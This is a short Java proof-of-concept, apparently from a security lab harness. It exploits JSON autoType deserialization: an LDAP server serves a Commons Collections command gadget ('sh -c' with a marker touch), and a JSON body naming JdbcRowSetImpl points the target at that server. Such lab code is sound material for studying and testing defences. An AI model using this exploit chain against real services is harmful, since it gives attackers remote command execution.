import whorl.lab.attack.Attacker;
import whorl.lab.attack.Collections3;
import whorl.lab.attack.Ldap;

public class Attack {
  public static void main(String[] args) throws Exception {
    Ldap.serveObject(Collections3.command("sh", "-c", Attacker.touch()));
    Attacker.post(
        "/json",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\""
            + Ldap.URL
            + "/a\",\"autoCommit\":true}");
    Attacker.done();
  }
}
